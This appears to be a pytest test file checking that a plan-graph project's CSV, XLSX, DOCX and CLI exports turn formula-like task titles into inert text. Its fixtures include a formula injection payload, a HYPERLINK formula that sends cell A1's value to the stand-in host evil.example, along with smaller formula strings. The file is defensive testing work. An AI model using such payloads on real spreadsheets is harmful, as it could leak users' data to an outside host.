"""Formula injection: plan text that a spreadsheet would run stays inert text in every export.

A crafted plan (tests/fixtures/formula_plan.txt) whose task titles start with `=`, `+`,
`-` and `@` is read by the real loader into a real embedded store; the viewer's XLSX,
DOCX and CSV downloads and the queries CLI's CSV are opened with openpyxl, python-docx and
csv, and every such cell must be text: a `'` before it in CSV, a text cell showing the
title as it is in XLSX, the title as it is in DOCX. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from contextlib import closing
from decimal import Decimal
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from flask.testing import FlaskClient

from graph.settings import Settings
from graph.store import Store, open_store
from loaders.pipeline import read_plans
from queries.catalog import load_catalog
from queries.cli import main as queries_main
from queries.output import FORMULA_MARKS, formula_like, inert, render
from webui import create_app

FORMULA_PLAN = Path(__file__).with_name("fixtures") / "formula_plan.txt"
DOC_ID = "formula_plan"
TITLES = ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")推进5G基站建设',
          "+SUM(1,2)建设千兆光网", "-2+3推进数据中心建设", "@SUM(1,1)推进工业互联网")
# One statement returning text of every dangerous kind beside numbers, for the consoles.
MIXED = ("RETURN '=1+1' AS f, '+1' AS p, '-3' AS s, '@A1' AS a, -3 AS n, -2.5 AS x, "
         "'市工信局' AS plain")
MIXED_CSV = ["'=1+1", "'+1", "'-3", "'@A1", "-3", "-2.5", "市工信局"]


@pytest.fixture(scope="module")
def graph_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The crafted plan, read by the real loader, in an embedded store (closed again)."""
    report = read_plans([FORMULA_PLAN])
    assert not report.failures, report.failures
    assert sorted(t.title for d in report.documents for t in d.tasks) == sorted(TITLES)
    path = tmp_path_factory.mktemp("formulas") / "graph.lbdb"
    with closing(open_store(Settings(path=path))) as store:
        store.load(report.documents)
    return path


@pytest.fixture(scope="module")
def store(graph_path: Path) -> Iterator[Store]:
    opened = open_store(Settings(path=graph_path, read_only=True))
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def client(store: Store) -> FlaskClient:
    return create_app(store=store, test_config={"TESTING": True}).test_client()


@pytest.fixture(scope="module")
def agency(store: Store) -> str:
    """市工信局 of 苏州: it carries every task of the plan, so its task list has each title."""
    columns, rows = load_catalog()["top_agencies"].run(store, {"city": "苏州"})
    top = dict(zip(columns, rows[0], strict=True))
    assert top["tasks"] == len(TITLES), top
    return str(top["id"])


def csv_of(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text)))


def assert_inert_titles(rows: list[list[str]], column: str = "title") -> None:
    """Every title is in the CSV with a `'` in front, and no cell starts a formula."""
    at = rows[0].index(column)
    assert sorted(r[at] for r in rows[1:]) == sorted("'" + t for t in TITLES)
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_MARKS), value


# --- the guard itself --------------------------------------------------------------------


@pytest.mark.parametrize(("value", "written"), [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+1", "'+1"), ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    (["=A1", "市工信局"], "'=A1、市工信局"),  # a list is exported as one joined text
    ("市工信局", "市工信局"), ("a=1", "a=1"), (" =1", " =1"), ("", ""), (None, ""),
    (-3, "-3"), (-2.5, "-2.5"), (Decimal("-1.5"), "-1.5"), (True, "true"), (0, "0"),
])
def test_inert_quotes_formula_like_text_only(value: Any, written: str) -> None:
    assert inert(value) == written
    assert formula_like(value) == (written != str(value) and written.startswith("'"))


def test_render_csv_quotes_cells_and_headers() -> None:
    rows = csv_of(render(["=cmd", "n"], [["=1+1", -1], ["@x", 2]], "csv"))
    assert rows == [["'=cmd", "n"], ["'=1+1", "-1"], ["'@x", "2"]]
    assert "=1+1" in render(["t"], [["=1+1"]], "table")  # the terminal table is not an export
    assert '"=1+1"' in render(["t"], [["=1+1"]], "json")  # nor is JSON: the data as stored


# --- the viewer's downloads -------------------------------------------------------------


def test_xlsx_writes_formula_like_titles_as_text(client: FlaskClient, agency: str) -> None:
    response = client.get(f"/agencies/{agency}/tasks.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    titles = {c.value: c for c in cells if c.column == 4 and c.row > 2}
    assert sorted(titles) == sorted(TITLES)  # the text as the plan prints it, no `'`
    for title, cell in titles.items():
        assert cell.data_type == "s", title
        assert cell.quotePrefix, title  # Excel keeps it text even when the cell is edited
    # In the file itself: inline strings, no <f> element anywhere.
    with zipfile.ZipFile(io.BytesIO(response.data)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert "<t>=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in xml or \
        '<t>=HYPERLINK("http://evil.example/?x="&amp;A1' in xml


def test_docx_shows_formula_like_titles_as_they_are(client: FlaskClient, agency: str) -> None:
    response = client.get(f"/agencies/{agency}/tasks.docx")
    assert response.status_code == 200
    document = docx.Document(io.BytesIO(response.data))
    table = document.tables[0]
    assert sorted(row.cells[1].text for row in table.rows[1:]) == sorted(TITLES)
    with zipfile.ZipFile(io.BytesIO(response.data)) as files:
        xml = files.read("word/document.xml").decode()
    assert not re.search(r"<w:(fldSimple|instrText|fldChar)\b", xml)  # no field codes


def test_page_twins_quote_formula_like_titles(client: FlaskClient, agency: str) -> None:
    downloads = [("/tasks/", {"city": "苏州"}, "title"),
                 (f"/agencies/{agency}", {"table": "tasks"}, "title"),
                 (f"/plans/{DOC_ID}", {}, "title"),
                 ("/query/tasks", {"city": "苏州"}, "title")]
    for url, args, column in downloads:
        response = client.get(url, query_string={**args, "format": "csv"})
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        assert_inert_titles(csv_of(response.data), column)
    # The JSON twin keeps the data as stored.
    page = client.get("/tasks/", query_string={"city": "苏州", "format": "json"}).get_json()
    assert sorted(r["title"] for r in page["tables"]["tasks"]["rows"]) == sorted(TITLES)


def test_console_csv_quotes_text_and_keeps_numbers(client: FlaskClient) -> None:
    response = client.get("/query/cypher", query_string={"q": MIXED, "format": "csv"})
    assert response.status_code == 200
    rows = csv_of(response.data)
    assert rows[0] == ["f", "p", "s", "a", "n", "x", "plain"]
    assert rows[1] == MIXED_CSV


# --- the queries CLI --------------------------------------------------------------------


def test_cli_run_csv_quotes_formula_like_titles(graph_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    env = {"GRAPH_PATH": str(graph_path)}
    assert queries_main(["run", "tasks", "--param", "city=苏州", "--format", "csv"], env) == 0
    assert_inert_titles(csv_of(capsys.readouterr().out))


def test_cli_cypher_csv_quotes_text_and_keeps_numbers(graph_path: Path,
                                                      capsys: pytest.CaptureFixture[str]
                                                      ) -> None:
    env = {"GRAPH_PATH": str(graph_path)}
    assert queries_main(["cypher", MIXED, "--format", "csv"], env) == 0
    assert csv_of(capsys.readouterr().out)[1] == MIXED_CSV
    argv = ["cypher", "RETURN $t AS t, $r AS r", "--param", "t=\t=1+1", "--param", "r=\r=1",
            "--format", "csv"]
    assert queries_main(argv, env) == 0
    assert csv_of(capsys.readouterr().out)[1] == ["'\t=1+1", "'\r=1"]
    assert queries_main(["cypher", "MATCH (t:Task) RETURN t.title AS title",
                         "--format", "csv"], env) == 0
    assert_inert_titles(csv_of(capsys.readouterr().out))
